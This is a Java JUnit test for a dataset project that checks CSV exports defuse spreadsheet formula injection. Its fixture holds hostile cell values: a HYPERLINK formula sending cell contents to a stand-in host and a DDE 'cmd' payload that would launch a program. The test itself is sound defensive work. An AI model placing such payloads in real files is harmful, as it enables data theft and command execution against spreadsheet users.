package org.cstoatlas.dataset;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;
import org.cstoatlas.TestDatasets;
import org.cstoatlas.record.time.StatusTable;
import org.cstoatlas.record.time.TimeIndex;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What the atlas writes from an opened dataset stays data in a spreadsheet: no cell runs as a formula. */
class HostileExportsTest {

    @Test
    void countryNamesBuiltAsFormulasAreWrittenAsTextInTheStatusCsv(@TempDir Path dir) throws Exception {
        Path data = HostileDatasets.minimal(dir.resolve("data"));
        Files.writeString(data.resolve("countries.json"), """
                {"countries": [
                  {"iso": "RUS", "name": "=HYPERLINK(\\"http://x.example/?\\"&A1,\\"Russia\\")", "nameRu": "Россия"},
                  {"iso": "KAZ", "name": "+1+cmd|' /C calc'!A0", "nameRu": "Казахстан"},
                  {"iso": "UZB", "name": "@SUM(1+1)", "nameRu": "Узбекистан"}
                ]}
                """);
        LoadResult r = TestDatasets.loader().load(data);
        assertTrue(r.ok(), String.valueOf(r.problems()));
        List<String> lines = StatusTable.csvLines(new TimeIndex(r.record()).statusOn(LocalDate.of(2010, 1, 1)));
        assertTrue(lines.get(1).startsWith("RUS,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Russia\"\")\","), lines.get(1));
        assertTrue(lines.get(2).startsWith("KAZ,'+1+cmd|' /C calc'!A0,"), lines.get(2));
        assertTrue(lines.get(3).startsWith("UZB,'@SUM(1+1),"), lines.get(3));
    }

    @Test
    void everyCellThatASpreadsheetWouldRunIsNeutralisedButNumbersStayNumbers() {
        assertEquals("'-2+3", StatusTable.cell("-2+3"));
        assertEquals("'=1", StatusTable.cell("=1"));
        assertEquals("'\tx", StatusTable.cell("\tx"));
        assertEquals("\"'\rx\"", StatusTable.cell("\rx"));
        assertEquals("-12.5", StatusTable.cell("-12.5"), "a negative number stays a number");
        assertEquals("+7", StatusTable.cell("+7"));
        assertEquals("Kazakhstan", StatusTable.cell("Kazakhstan"));
        assertEquals("\"Korea, Republic of\"", StatusTable.cell("Korea, Republic of"));
        assertEquals("\"say \"\"hi\"\"\"", StatusTable.cell("say \"hi\""));
        assertEquals("", StatusTable.cell(null));
    }
}
